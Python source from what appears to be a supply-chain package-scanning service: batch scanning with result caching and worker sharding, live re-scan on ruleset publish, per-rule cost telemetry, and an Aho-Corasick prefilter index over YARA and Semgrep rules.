    # -- publishing (delegates to the registry) ------------------------------------
    def publish(self, yara=None, semgrep=None, label: str = "") -> RulesetVersion:
        return self.registry.publish(yara=yara, semgrep=semgrep, label=label)

    def publish_generated(self, ruleset, label: str = "") -> RulesetVersion:
        return self.registry.publish_generated(ruleset, label=label)

    # -- telemetry -----------------------------------------------------------------
    def top_slow_rules(self, n: int = 10, by: str = "max") -> list[RuleCost]:
        """The most expensive rules seen so far (pathological-regex radar).

        Populated whenever ``track_rule_costs`` is on (the default); rules
        the prefilter index skipped cost nothing and never appear.
        """
        return self.rule_costs.top_slow_rules(n, by=by)

    def _ruleset_payload(self, ruleset: RulesetVersion, worker_count: int):
        """What ``_worker_init`` receives for this batch.

        The in-process lane gets the live objects (zero-copy).  When the
        scheduler may spin up a process pool there are two lanes:

        * on ``fork`` platforms the live objects are staged in
          ``_PARENT_PAYLOAD`` right before the pool forks, so every worker
          inherits the publish-time compiled rules and packed index
          copy-on-write — no pickling, no regex recompile;
        * otherwise the publish-time compiled version is shipped as one
          ``to_bytes()`` blob per worker — cached per version, so repeat
          batches against the same ruleset serialize once.

        Naive mode (``use_index=False``) ships bare rule sets without the
        index either way.
        """
        global _PARENT_PAYLOAD
        index = ruleset.index if self.config.use_index else None
        may_fork_pool = self.config.mode != INPROCESS and (
            worker_count > 1 or self.config.mode == PROCESS
        )
        if not may_fork_pool:
            return (ruleset.yara, ruleset.semgrep, index)
        if multiprocessing.get_start_method() == "fork":
            _PARENT_PAYLOAD = (ruleset.yara, ruleset.semgrep, index)
            return _INHERIT_PAYLOAD
        if not self.config.use_index:
            return (ruleset.yara, ruleset.semgrep, None)
        blob = self._version_blobs.get(ruleset.version)
        if blob is None:
            blob = ruleset.to_bytes()
            self._version_blobs[ruleset.version] = blob
            while len(self._version_blobs) > 4:
                self._version_blobs.popitem(last=False)
        return blob

    # -- scanning ------------------------------------------------------------------
    def scan_package(self, package: Package) -> PackageDetection:
        """Scan one package against the current ruleset (cache-aware)."""
        return self.scan_batch([package]).result.detections[0]

    def scan_batch(
        self,
        packages: Sequence[Union[Package, PreparedPackage]],
        version: Optional[int] = None,
        record_recency: bool = True,
    ) -> BatchScanResult:
        """Scan a batch against the current (or a pinned) ruleset version.

        ``packages`` may mix raw :class:`Package` objects and already-built
        :class:`PreparedPackage` wrappers (the live re-scan path reuses the
        prepared inputs from the recency ring).  ``record_recency=False``
        keeps the batch out of the recency ring (used by the re-scan itself).
        """
        tracer = get_tracer()
        with tracer.span("scan.batch", packages=len(packages)) as batch_span:
            return self._scan_batch_inner(
                packages, version, record_recency, tracer, batch_span
            )

    def _scan_batch_inner(
        self,
        packages: Sequence[Union[Package, PreparedPackage]],
        version: Optional[int],
        record_recency: bool,
        tracer,
        batch_span,
    ) -> BatchScanResult:
        ruleset = (
            self.registry.current() if version is None else self.registry.get(version)
        )
        started = time.perf_counter()
        result = DetectionResult(match_threshold=self.config.match_threshold)
        ordered: list[Optional[PackageDetection]] = [None] * len(packages)

        # 1. serve repeats from the result cache.  The PreparedPackage built
        # for the fingerprint is what gets sharded out, so its cached
        # metadata JSON is not recomputed by the workers.
        to_scan: list[tuple[int, Union[Package, PreparedPackage]]] = []
        fingerprints: dict[int, str] = {}
        prepared_by_position: dict[int, PreparedPackage] = {}
        cache_hits = 0
        if self.config.enable_cache:
            for position, package in enumerate(packages):
                if isinstance(package, PreparedPackage):
                    prepared = package
                    if (
                        prepared.include_metadata_in_text
                        != self.config.include_metadata_in_text
                    ):
                        prepared = PreparedPackage(
                            prepared.package, self.config.include_metadata_in_text
                        )
                else:
                    prepared = PreparedPackage(
                        package, self.config.include_metadata_in_text
                    )
                fingerprints[position] = prepared.fingerprint
                prepared_by_position[position] = prepared
                cached = self.cache.get(prepared.fingerprint, ruleset.cache_key)
                if cached is not None:
                    ordered[position] = cached
                    cache_hits += 1
                else:
                    to_scan.append((position, prepared))
        else:
            to_scan = list(enumerate(packages))

        # 2. chunk the remainder across the worker pool.  A chunk is one
        # worker task scanned as a single batch (the atom pass amortises
        # over it); the default is one contiguous chunk per shard, so each
        # worker receives exactly one task instead of per-package round
        # trips.
        shard_stats: list[ShardStats] = []
        report = SchedulerReport()
        if to_scan:
            num_shards = max(1, self.config.shards)
            chunk_size = self.config.chunk_size
            if chunk_size is None or chunk_size < 1:
                chunk_size = -(-len(to_scan) // num_shards)  # ceil division
            chunks = chunk_items(to_scan, chunk_size)
            scheduler = ScanScheduler(
                mode=self.config.mode,
                # chunks may outnumber shards (small chunk_size); the shard
                # count stays the parallelism bound
                max_workers=self.config.max_workers or num_shards,
            )
            with tracer.span(
                "scan.dispatch", chunks=len(chunks), mode=self.config.mode
            ):
                # the span carrier rides inside each chunk envelope so the
                # process lane can emit scan.chunk spans under this trace
                carrier = tracer.carrier()
                report = scheduler.run(
                    [(chunk, carrier) for chunk in chunks],
                    _scan_shard,
                    init_fn=_worker_init,
                    init_args=(
                        self._ruleset_payload(ruleset, worker_count=len(chunks)),
                        self.config.match_threshold,
                        self.config.include_metadata_in_text,
                        self.config.track_rule_costs,
                    ),
                )
            for shard_id, (
                detections,
                timings,
                seconds,
                costs,
                span_records,
            ) in enumerate(report.results):
                if costs is not None:
                    self.rule_costs.absorb(costs)
                if span_records:
                    tracer.absorb(span_records)
                stats = ShardStats(shard_id=shard_id, seconds=seconds)
                for position, detection in detections:
                    ordered[position] = detection
                    stats.packages += 1
                    if detection.predicted(self.config.match_threshold):
                        stats.matched_packages += 1
                    if self.config.enable_cache:
                        self.cache.put(
                            fingerprints[position], ruleset.cache_key, detection
                        )
                result.timings.merge(timings)
                shard_stats.append(stats)

        assert all(detection is not None for detection in ordered)
        result.detections = list(ordered)  # type: ignore[arg-type]
        elapsed = time.perf_counter() - started
        result.timings.total_seconds = elapsed
        batch = BatchScanResult(
            result=result,
            ruleset_version=ruleset.version,
            shard_stats=shard_stats,
            cache_hits=cache_hits,
            cache_misses=len(to_scan),
            elapsed_seconds=elapsed,
            mode=report.mode if to_scan else "cache",
            workers=report.workers,
            fallback_error=report.fallback_error,
        )
        self.stats.batches += 1
        self.stats.packages_scanned += len(packages)
        self.stats.cache_hits += cache_hits
        self.stats.seconds += elapsed
        if to_scan:
            lane = ruleset.index.lane if self.config.use_index else "naive"
        else:
            lane = "cache"  # fully cache-served: the index never ran
        self.stats.lanes[lane] = self.stats.lanes.get(lane, 0) + 1
        _SCAN_BATCHES.inc(lane=lane)
        _SCAN_PACKAGES.inc(len(packages))
        _SCAN_SECONDS.observe(elapsed)
        if self.config.enable_cache:
            if cache_hits:
                _SCAN_CACHE.inc(cache_hits, outcome="hit")
            if to_scan:
                _SCAN_CACHE.inc(len(to_scan), outcome="miss")
        if report.fallback_error:
            _SCAN_FALLBACKS.inc()
        batch_span.set_attr("lane", lane)
        batch_span.set_attr("mode", batch.mode)
        batch_span.set_attr("version", ruleset.version)
        batch_span.set_attr("cache_hits", cache_hits)
        if record_recency and self.config.recency_window > 0 and fingerprints:
            self._remember(ruleset.version, fingerprints, prepared_by_position, ordered)
        return batch

    # -- live re-scan --------------------------------------------------------------
    def _remember(
        self,
        version: int,
        fingerprints: dict[int, str],
        prepared_by_position: dict[int, PreparedPackage],
        detections: Sequence[Optional[PackageDetection]],
    ) -> None:
        """Fold a batch into the recency ring (most recent last, bounded)."""
        with self._recent_lock:
            for position, fingerprint in fingerprints.items():
                detection = detections[position]
                assert detection is not None
                self._recent[fingerprint] = _RecentScan(
                    prepared=prepared_by_position[position],
                    detection=detection,
                    version=version,
                )
                self._recent.move_to_end(fingerprint)
            while len(self._recent) > self.config.recency_window:
                self._recent.popitem(last=False)

    @property
    def recency_window(self) -> list[str]:
        """Fingerprints currently in the ring, oldest first."""
        with self._recent_lock:
            return list(self._recent)

    def enable_live_rescan(
        self, on_delta: Optional[Callable[[RescanDelta], None]] = None
    ) -> "ScanService":
        """Subscribe to the registry: whenever a new version goes live,
        re-scan the recency window and record a :class:`RescanDelta`
        (``service.rescans`` keeps them; ``on_delta`` fires per re-scan).

        The recency ring is fed by the fingerprints the result cache
        computes, so live re-scan requires ``enable_cache`` and a
        ``recency_window > 0`` — rejected loudly here rather than silently
        never re-scanning.
        """
        if not self.config.enable_cache:
            raise ValueError(
                "live re-scan needs the result cache (fingerprints feed the "
                "recency ring); enable_cache=False cannot re-scan"
            )
        if self.config.recency_window < 1:
            raise ValueError("live re-scan needs recency_window > 0")
        self._on_delta = on_delta or self._on_delta
        if self._subscription is None:
            self._subscription = self.registry.subscribe(self._on_registry_event)
        return self

    def disable_live_rescan(self) -> None:
        if self._subscription is not None:
            self.registry.unsubscribe(self._subscription)
            self._subscription = None

    @property
    def last_rescan(self) -> Optional[RescanDelta]:
        return self.rescans[-1] if self.rescans else None

    def _on_registry_event(self, event: PublishEvent) -> None:
        if not event.activated:
            return  # a staged (inactive) publish serves no traffic yet
        self.rescan_recent(event.version.version)

    def rescan_recent(self, version: Optional[int] = None) -> Optional[RescanDelta]:
        """Re-scan the recency window against ``version`` (default: current)
        and diff the verdicts; returns ``None`` when the ring is empty or
        already at that version."""
        with self._rescan_lock:
            with self._recent_lock:
                entries = list(self._recent.items())
            target = (
                self.registry.current().version if version is None else version
            )
            entries = [
                (fingerprint, entry)
                for fingerprint, entry in entries
                if entry.version != target
            ]
            if not entries:
                return None
            started = time.perf_counter()
            with get_tracer().span("scan.rescan", to_version=target):
                batch = self.scan_batch(
                    [entry.prepared for _, entry in entries],
                    version=target,
                    record_recency=False,
                )
            _SCAN_RESCANS.inc()
            from_versions = {entry.version for _, entry in entries}
            delta = RescanDelta(
                to_version=target,
                from_version=from_versions.pop() if len(from_versions) == 1 else None,
                scanned=len(entries),
                cache_hits=batch.cache_hits,
            )
            threshold = self.config.match_threshold
            with self._recent_lock:
                for (fingerprint, entry), detection in zip(
                    entries, batch.detections
                ):
                    was = entry.detection.predicted(threshold)
                    now = detection.predicted(threshold)
                    name = detection.package
                    if now and not was:
                        delta.new.append(name)
                    elif was and not now:
                        delta.cleared.append(name)
                    elif (
                        now
                        and entry.detection.matched_rules != detection.matched_rules
                    ):
                        delta.changed.append(name)
                    live = self._recent.get(fingerprint)
                    if live is not None and live.version != target:
                        live.detection = detection
                        live.version = target
            delta.elapsed_seconds = time.perf_counter() - started
            self.rescans.append(delta)
            self.stats.rescans += 1
        if self._on_delta is not None:
            self._on_delta(delta)
        return delta
