"""Per-rule cost accounting.

Generated rule sets occasionally contain pathological rules (catastrophic
regexes, anchor-less patterns that structural-match every file); at registry
scale one such rule dominates the whole scan budget.  The service therefore
times every rule evaluation and aggregates the figures per rule:
:meth:`RuleCostTracker.top_slow_rules` surfaces the worst offenders so they
can be rewritten or retired.

Two pieces, split along the worker boundary:

* :class:`RuleCostSample` — a lock-free, picklable accumulator one shard
  fills while scanning (shipped back from process-pool workers);
* :class:`RuleCostTracker` — the thread-safe service-lifetime aggregate
  that absorbs samples and answers telemetry queries.
"""

from __future__ import annotations

import threading
from dataclasses import dataclass, field

from repro.obs.metrics import get_registry

_RULE_EVALS = get_registry().counter(
    "repro_rule_evaluations_total", "Rule evaluations, by engine.", ("engine",)
)
_RULE_SECONDS = get_registry().counter(
    "repro_rule_eval_seconds_total",
    "Cumulative seconds spent evaluating rules, by engine.",
    ("engine",),
)


@dataclass
class RuleCost:
    """Aggregate evaluation cost of one rule."""

    rule_key: str
    engine: str  # "yara" | "semgrep"
    evaluations: int = 0
    total_seconds: float = 0.0
    max_seconds: float = 0.0
    slowest_package: str = ""

    @property
    def mean_seconds(self) -> float:
        return self.total_seconds / self.evaluations if self.evaluations else 0.0

    def describe(self) -> str:
        return (
            f"{self.engine}:{self.rule_key}: {self.evaluations} evals, "
            f"max {self.max_seconds * 1000:.2f}ms on {self.slowest_package or '-'}, "
            f"total {self.total_seconds * 1000:.2f}ms"
        )


@dataclass
class RuleCostSample:
    """Per-shard rule timings (plain data, safe to pickle across workers)."""

    costs: dict[tuple[str, str], RuleCost] = field(default_factory=dict)

    def record(self, engine: str, rule_key: str, seconds: float, package: str) -> None:
        cost = self.costs.get((engine, rule_key))
        if cost is None:
            cost = RuleCost(rule_key=rule_key, engine=engine)
            self.costs[(engine, rule_key)] = cost
        cost.evaluations += 1
        cost.total_seconds += seconds
        if seconds >= cost.max_seconds:
            cost.max_seconds = seconds
            cost.slowest_package = package

    def __len__(self) -> int:
        return len(self.costs)


class RuleCostTracker:
    """Thread-safe service-lifetime aggregation of rule costs."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._costs: dict[tuple[str, str], RuleCost] = {}

    def absorb(self, sample: RuleCostSample) -> None:
        # mirror engine-level aggregates into the process-wide registry so
        # rule-evaluation cost shows up in Prometheus scrapes; the per-rule
        # detail stays here (unbounded rule names make bad label values)
        per_engine: dict[str, tuple[int, float]] = {}
        for (engine, _), incoming in sample.costs.items():
            evals, seconds = per_engine.get(engine, (0, 0.0))
            per_engine[engine] = (
                evals + incoming.evaluations,
                seconds + incoming.total_seconds,
            )
        for engine, (evals, seconds) in per_engine.items():
            _RULE_EVALS.inc(evals, engine=engine)
            _RULE_SECONDS.inc(seconds, engine=engine)
        with self._lock:
            for key, incoming in sample.costs.items():
                cost = self._costs.get(key)
                if cost is None:
                    self._costs[key] = RuleCost(
                        rule_key=incoming.rule_key,
                        engine=incoming.engine,
                        evaluations=incoming.evaluations,
                        total_seconds=incoming.total_seconds,
                        max_seconds=incoming.max_seconds,
                        slowest_package=incoming.slowest_package,
                    )
                    continue
                cost.evaluations += incoming.evaluations
                cost.total_seconds += incoming.total_seconds
                if incoming.max_seconds >= cost.max_seconds:
                    cost.max_seconds = incoming.max_seconds
                    cost.slowest_package = incoming.slowest_package

    def top_slow_rules(self, n: int = 10, by: str = "max") -> list[RuleCost]:
        """The ``n`` most expensive rules, slowest first.

        ``by='max'`` ranks by worst single evaluation (pathological-regex
        hunting); ``by='total'`` ranks by cumulative cost (capacity
        planning); ``by='mean'`` by average evaluation cost.  Cost ties are
        broken by ``(engine, rule name)`` so telemetry output is reproducible
        across runs.
        """
        keys = {
            "max": lambda c: c.max_seconds,
            "total": lambda c: c.total_seconds,
            "mean": lambda c: c.mean_seconds,
        }
        if by not in keys:
            raise ValueError(f"by must be one of {sorted(keys)}, got {by!r}")
        cost_of = keys[by]
        with self._lock:
            ranked = sorted(
                self._costs.values(),
                key=lambda c: (-cost_of(c), c.engine, c.rule_key),
            )
            return [
                RuleCost(
                    rule_key=c.rule_key,
                    engine=c.engine,
                    evaluations=c.evaluations,
                    total_seconds=c.total_seconds,
                    max_seconds=c.max_seconds,
                    slowest_package=c.slowest_package,
                )
                for c in ranked[: max(0, n)]
            ]

    def __len__(self) -> int:
        with self._lock:
            return len(self._costs)

    def clear(self) -> None:
        with self._lock:
            self._costs.clear()
