"""Atom-prefilter rule index.

:class:`AhoCorasick` is the atom vocabulary's multi-pattern matcher; one
pass over the haystack reports every atom that occurs.  :class:`RuleIndex`
maps those hits back to candidate rules and fully evaluates *only* the
candidates (plus the fallback lane of rules that exposed no atoms), which
keeps indexed scanning bit-for-bit identical to naive scanning while
skipping the vast majority of rule evaluations.

The hot path is the packed byte-level automaton
(:class:`repro.scanserve.packed.PackedAutomaton`): flat ``array('i')``
goto/fail tables compiled once at construction (i.e. at registry publish
time), walked over ``bytes`` with no per-position dict lookups, and
serializable so shard workers attach without recompiling.  The historical
dict-of-dicts walk survives as :meth:`AhoCorasick.find_automaton` — the
readable reference the property tests hold the packed tables to.

Lane selection: below ``automaton_threshold`` atoms a per-atom C-speed
substring scan (``atom in text``) still beats walking any pure-Python
automaton, so :meth:`AhoCorasick.find` picks the strategy by vocabulary
size.  Batch scans (:meth:`AhoCorasick.find_batch`) amortise setup across
the whole batch and pick their own lane internally.  All lanes return
identical hit sets (property-tested).
"""

from __future__ import annotations

import time
from collections import deque
from dataclasses import dataclass
from typing import Iterable, List, Optional, Sequence, Set, Union

from repro.scanserve.atoms import (
    DEFAULT_MIN_ATOM_LENGTH,
    RuleAtoms,
    semgrep_rule_atoms,
    yara_rule_atoms,
)
from repro.scanserve.packed import PackedAutomaton
from repro.semgrepx.compiler import CompiledSemgrepRule, CompiledSemgrepRuleSet
from repro.semgrepx.matcher import ScanTarget, SemgrepFinding
from repro.yarax import ast_nodes as yast
from repro.yarax.compiler import CompiledRule, CompiledRuleSet
from repro.yarax.matcher import CompiledString, ConditionEvaluator, RuleMatch

# below this many atoms, per-atom ``str.find`` (C speed) beats even the
# packed automaton walk for a *single* text; above it the O(n) automaton
# wins.  Re-tuned for the packed byte-level tables against the crossover
# sweep in ``benchmarks/test_bench_scan_throughput.py``: the dict walk
# crossed over near ~1300 atoms, the packed walk crosses near ~190.  The
# crossover is hardware-dependent, so it is a tunable: see
# ``ScanServiceConfig.automaton_threshold`` / ``RuleIndex``.
AUTOMATON_THRESHOLD = 192

#: Lane names reported by :attr:`AhoCorasick.lane` / :meth:`RuleIndex.stats`.
AUTOMATON_LANE = "automaton"
SUBSTRING_LANE = "substring"


class AhoCorasick:
    """Multi-pattern literal matcher.

    The public contract is unchanged from the dict-of-dicts original:
    ``find(text)`` returns the ids of every word occurring in ``text``.
    Internally the automaton lane now runs on packed byte-level tables;
    the dict trie is only materialised on demand for
    :meth:`find_automaton`, the reference implementation kept for
    property-testing and debugging.
    """

    def __init__(
        self, words: Iterable[str], automaton_threshold: Optional[int] = None
    ) -> None:
        self.automaton_threshold = (
            AUTOMATON_THRESHOLD if automaton_threshold is None else automaton_threshold
        )
        self.words: list[str] = []
        seen: dict[str, int] = {}
        for word in words:
            if not word:
                raise ValueError("cannot index an empty atom")
            if word not in seen:
                seen[word] = len(self.words)
                self.words.append(word)
        self.packed = PackedAutomaton(self.words)
        # dict trie (reference lane) is built lazily — the packed tables
        # carry the hot path and the service never needs the dict form
        self._trie: Optional[tuple[list[dict[str, int]], list[int], list[list[int]]]] = None

    def __len__(self) -> int:
        return len(self.words)

    @property
    def state_count(self) -> int:
        return self.packed.state_count

    # -- reference dict trie ------------------------------------------------------
    def _dict_trie(self) -> tuple[list[dict[str, int]], list[int], list[list[int]]]:
        if self._trie is None:
            goto: list[dict[str, int]] = [{}]
            output: list[list[int]] = [[]]
            for word_id, word in enumerate(self.words):
                state = 0
                for char in word:
                    nxt = goto[state].get(char)
                    if nxt is None:
                        nxt = len(goto)
                        goto[state][char] = nxt
                        goto.append({})
                        output.append([])
                    state = nxt
                output[state].append(word_id)
            # BFS failure links; outputs are merged so a state reports every
            # word ending at it (including proper suffixes)
            fail: list[int] = [0] * len(goto)
            queue: deque[int] = deque(goto[0].values())
            while queue:
                state = queue.popleft()
                for char, nxt in goto[state].items():
                    queue.append(nxt)
                    fallback = fail[state]
                    while fallback and char not in goto[fallback]:
                        fallback = fail[fallback]
                    fail[nxt] = goto[fallback].get(char, 0)
                    if fail[nxt] == nxt:
                        fail[nxt] = 0
                    output[nxt].extend(output[fail[nxt]])
            self._trie = (goto, fail, output)
        return self._trie

    # -- scanning ---------------------------------------------------------------
    def find_automaton(self, text: str) -> set[int]:
        """Reference dict-trie pass; same hit set as the packed tables."""
        goto, fail, output = self._dict_trie()
        hits: set[int] = set()
        pending = len(self.words)
        state = 0
        for char in text:
            while state and char not in goto[state]:
                state = fail[state]
            state = goto[state].get(char, 0)
            if output[state]:
                for word_id in output[state]:
                    if word_id not in hits:
                        hits.add(word_id)
                        pending -= 1
                if not pending:
                    break  # every word already found
        return hits

    def find_substring(self, text: str) -> set[int]:
        """Per-atom C-speed substring scan; same result as the automaton."""
        return {i for i, word in enumerate(self.words) if word in text}

    def find_packed(self, text: str) -> set[int]:
        """Packed byte-level pass (the automaton lane's actual hot path)."""
        return self.packed.find(text)

    @property
    def lane(self) -> str:
        """Which scan strategy :meth:`find` uses for this vocabulary size."""
        if len(self.words) >= self.automaton_threshold:
            return AUTOMATON_LANE
        return SUBSTRING_LANE

    def find(self, text: str) -> set[int]:
        if self.lane == AUTOMATON_LANE:
            return self.packed.find(text)
        return self.find_substring(text)

    def find_batch(self, texts: Sequence[Union[str, bytes]]) -> List[Set[int]]:
        """Per-text hit sets with batch-amortised setup.

        Equivalent to ``[self.find(t) for t in texts]``; the packed
        automaton picks the joined-substring or DFA-walk lane internally
        by guard count, so this is the right call at *any* vocabulary
        size.  Accepts pre-encoded ``bytes`` haystacks.
        """
        return self.packed.find_batch(texts)

    def __getstate__(self):
        state = dict(self.__dict__)
        state["_trie"] = None  # reference trie is derived; rebuild on demand
        return state


class _LazyConditionEvaluator(ConditionEvaluator):
    """Condition evaluation that only runs the string scans it needs.

    Naive scanning collects *every* occurrence of *every* string before
    evaluating the condition.  Here a string whose gate atom was absent from
    the scanned text is known unmatchable without running its regex at all;
    the remaining strings are probed lazily — an existence check
    (``re.search``, early exit) unless the condition genuinely needs a count.
    Probes are ordered cheapest-first (blocked strings are free ``False``,
    plain literals are C-speed ``in``, regexes last) and results are shared
    across the rules of one package through ``probe_memo`` — registry rule
    sets repeat the same literals and patterns constantly.  The verdict is
    exactly :class:`ConditionEvaluator`'s (corpus- and property-tested);
    only the work to reach it changes.
    """

    def __init__(
        self,
        strings: list[CompiledString],
        data: str,
        blocked: set[str],
        identifiers: Optional[list[str]] = None,
        probe_memo: Optional[dict] = None,
        probe_rank: Optional[dict[str, int]] = None,
    ) -> None:
        if identifiers is None:
            identifiers = [cs.identifier for cs in strings]
        super().__init__(
            matches_by_id={},
            all_identifiers=identifiers,
            data_length=len(data),
        )
        self._strings = {cs.identifier: cs for cs in strings}
        self._data = data
        self._blocked = blocked
        self._memo = probe_memo if probe_memo is not None else {}
        self._rank = probe_rank
        self._exists: dict[str, bool] = {}
        self._counts: dict[str, int] = {}

    def _probe_order(self, identifiers: list[str]) -> list[str]:
        rank = self._rank
        if rank is None:
            return identifiers
        blocked = self._blocked
        return sorted(
            identifiers, key=lambda i: 0 if i in blocked else rank.get(i, 2)
        )

    def _string_exists(self, identifier: str) -> bool:
        cached = self._exists.get(identifier)
        if cached is None:
            if identifier in self._blocked or identifier not in self._strings:
                cached = False
            else:
                compiled = self._strings[identifier]
                plain = compiled._plain_value
                if plain is not None:
                    key = ("p", plain)
                else:
                    regex = compiled._regex
                    key = ("r", regex.pattern, regex.flags)
                cached = self._memo.get(key)
                if cached is None:
                    cached = compiled.search(self._data)
                    self._memo[key] = cached
            self._exists[identifier] = cached
        return cached

    def _string_count(self, identifier: str) -> int:
        cached = self._counts.get(identifier)
        if cached is None:
            if identifier in self._blocked or identifier not in self._strings:
                cached = 0
            else:
                compiled = self._strings[identifier]
                regex = compiled._regex
                key = ("c", regex.pattern, regex.flags)
                cached = self._memo.get(key)
                if cached is None:
                    # same 1000-occurrence cap as CompiledString.find's default
                    cached = len(compiled.find(self._data))
                    self._memo[key] = cached
            self._counts[identifier] = cached
        return cached

    def _eval(self, expr):
        if isinstance(expr, yast.StringRef):
            return self._string_exists(expr.identifier)
        if isinstance(expr, yast.StringCount):
            return self._string_count(expr.identifier)
        return super()._eval(expr)

    def _eval_of(self, expr: yast.OfExpr) -> bool:
        if expr.string_set.them:
            identifiers = list(self.all_identifiers)
        else:
            identifiers = []
            for member in expr.string_set.members:
                if member.endswith("*"):
                    prefix = member[:-1]
                    identifiers.extend(i for i in self.all_identifiers if i.startswith(prefix))
                else:
                    identifiers.append(member)
        total = len(identifiers)
        # probe order never changes the verdict (pure existence), only the
        # expected cost to reach it
        identifiers = self._probe_order(identifiers)
        if expr.quantifier == "any":
            return any(self._string_exists(i) for i in identifiers)
        if expr.quantifier == "all":
            return total > 0 and all(self._string_exists(i) for i in identifiers)
        needed = int(expr.quantifier)
        matched = 0
        for remaining, identifier in zip(range(total, 0, -1), identifiers):
            if matched + remaining < needed:
                break  # cannot reach the quantifier any more
            if self._string_exists(identifier):
                matched += 1
                if matched >= needed:
                    return True
        return matched >= needed


@dataclass
class IndexStats:
    """How much of a rule set the index can prefilter."""

    yara_rules: int = 0
    yara_indexed: int = 0
    semgrep_rules: int = 0
    semgrep_indexed: int = 0
    atoms: int = 0
    automaton_states: int = 0
    lane: str = SUBSTRING_LANE
    automaton_threshold: int = AUTOMATON_THRESHOLD
    packed_mode: str = "dense"
    packed_memory_bytes: int = 0
    batch_guards: int = 0

    @property
    def indexed_fraction(self) -> float:
        total = self.yara_rules + self.semgrep_rules
        if not total:
            return 0.0
        return (self.yara_indexed + self.semgrep_indexed) / total


class RuleIndex:
    """Prefilter index over a compiled YARA and/or Semgrep rule set.

    ``match_yara`` / ``match_semgrep`` produce exactly what
    ``CompiledRuleSet.match`` / ``CompiledSemgrepRuleSet.match_target``
    would, in the same order — rules whose atoms did not occur are provably
    unable to fire and are skipped without evaluation.

    The packed atom tables are compiled once here (construction == registry
    publish time) and the whole index pickles, so process-pool shard
    workers receive ready-made tables instead of re-deriving them.

    The scanning entry points accept optional precomputed forms so batch
    callers stop re-folding and re-scanning the same text per engine lane:
    ``folded`` is ``text.casefold()`` and ``hits`` an atom hit set from
    :meth:`hits` / :meth:`hits_batch`.
    """

    def __init__(
        self,
        yara: Optional[CompiledRuleSet] = None,
        semgrep: Optional[CompiledSemgrepRuleSet] = None,
        min_atom_length: int = DEFAULT_MIN_ATOM_LENGTH,
        automaton_threshold: Optional[int] = None,
    ) -> None:
        self.yara = yara
        self.semgrep = semgrep
        self.min_atom_length = min_atom_length
        self.automaton_threshold = automaton_threshold
        self.rule_atoms: list[RuleAtoms] = []

        vocabulary: dict[str, int] = {}
        # atom id -> rule slots; a slot is ("yara"|"semgrep", position)
        postings: dict[int, list[tuple[str, int]]] = {}
        self._fallback_yara: list[int] = []
        self._fallback_semgrep: list[int] = []

        def register(atoms: RuleAtoms, engine: str, position: int) -> None:
            self.rule_atoms.append(atoms)
            if not atoms.indexable:
                if engine == "yara":
                    self._fallback_yara.append(position)
                else:
                    self._fallback_semgrep.append(position)
                return
            for atom in atoms.atoms:
                atom_id = vocabulary.setdefault(atom, len(vocabulary))
                postings.setdefault(atom_id, []).append((engine, position))

        # per-rule string gates: identifier -> one required (casefolded)
        # literal.  A gated string whose literal is absent from the scanned
        # text cannot match, so its regex is never run (YARA's atom->confirm
        # strategy).  Gates are checked on demand per candidate — only
        # rule-candidacy atoms go through the automaton pass.
        self._yara_gates: list[dict[str, str]] = []
        # per-semgrep-rule required anchor sets (all-of each, any set
        # suffices): a candidate whose sets are all incomplete in the text
        # cannot fire and skips structural matching entirely
        self._semgrep_required: list[tuple[tuple[str, ...], ...]] = []
        # per-rule prebuilt evaluation data: identifier list and probe cost
        # rank (1 = plain literal via C-speed ``in``, 2 = regex), so the
        # lazy evaluator does not re-derive them for every package
        self._yara_eval: list[tuple[list[str], dict[str, int]]] = []

        for position, rule in enumerate(yara.rules if yara is not None else []):
            register(yara_rule_atoms(rule, min_atom_length), "yara", position)
            gates: dict[str, str] = {}
            ranks: dict[str, int] = {}
            identifiers: list[str] = []
            for compiled_string in rule.strings:
                identifiers.append(compiled_string.identifier)
                ranks[compiled_string.identifier] = (
                    1 if compiled_string._plain_value is not None else 2
                )
                string_atoms = compiled_string.atoms(min_atom_length)
                if string_atoms:
                    gates[compiled_string.identifier] = max(
                        string_atoms, key=len
                    ).casefold()
            self._yara_gates.append(gates)
            self._yara_eval.append((identifiers, ranks))
        for position, rule in enumerate(semgrep.rules if semgrep is not None else []):
            atoms = semgrep_rule_atoms(rule, min_atom_length)
            register(atoms, "semgrep", position)
            self._semgrep_required.append(atoms.required_sets)

        self._automaton = AhoCorasick(
            vocabulary.keys(), automaton_threshold=automaton_threshold
        )
        self._postings = postings
        self._fallback_semgrep_set = frozenset(self._fallback_semgrep)
        # literal -> automaton word id, for gate checks: a gate literal that
        # doubles as a candidacy atom is answered from the automaton's hit
        # set instead of a fresh substring scan
        self._atom_ids: dict[str, int] = {
            word: word_id for word_id, word in enumerate(self._automaton.words)
        }

    # -- atom scanning ------------------------------------------------------------
    def hits(self, folded: str) -> set[int]:
        """Atom hit set for one already-casefolded text."""
        return self._automaton.find(folded)

    def hits_batch(self, folded_texts: Sequence[Union[str, bytes]]) -> List[Set[int]]:
        """Atom hit sets for a batch of already-casefolded texts.

        One batch-amortised pass (see :meth:`AhoCorasick.find_batch`); feed
        the per-text sets back into the scanning entry points as ``hits=``.
        Accepts pre-encoded UTF-8 ``bytes`` haystacks.
        """
        return self._automaton.find_batch(folded_texts)

    # -- candidate selection ------------------------------------------------------
    def _positions(self, hits: set[int], engine: str, fallback: list[int]) -> list[int]:
        positions = set(fallback)
        for atom_id in hits:
            for posting_engine, position in self._postings.get(atom_id, []):
                if posting_engine == engine:
                    positions.add(position)
        return sorted(positions)

    def candidate_yara_rules(
        self,
        text: str,
        folded: Optional[str] = None,
        hits: Optional[set[int]] = None,
    ) -> list[CompiledRule]:
        """The only YARA rules that can possibly fire on ``text`` (in rule order)."""
        if self.yara is None:
            return []
        if hits is None:
            hits = self._automaton.find(text.casefold() if folded is None else folded)
        rules = self.yara.rules
        return [rules[i] for i in self._positions(hits, "yara", self._fallback_yara)]

    def candidates_batch(self, folded_texts: Sequence[str]) -> list[list[CompiledRule]]:
        """Per-text YARA candidate lists for a whole batch of folded texts.

        Equivalent to calling :meth:`candidate_yara_rules` per text, with
        the atom pass amortised across the batch.
        """
        if self.yara is None:
            return [[] for _ in folded_texts]
        rules = self.yara.rules
        return [
            [rules[i] for i in self._positions(hits, "yara", self._fallback_yara)]
            for hits in self.hits_batch(folded_texts)
        ]

    def candidate_semgrep_rules(
        self,
        target: ScanTarget,
        folded: Optional[str] = None,
        hits: Optional[set[int]] = None,
    ) -> list[CompiledSemgrepRule]:
        """The only Semgrep rules that can possibly fire on ``target``.

        Two-stage prefilter: atom candidacy (any representative atom
        occurred), then the *required anchor set* gate — a rule survives
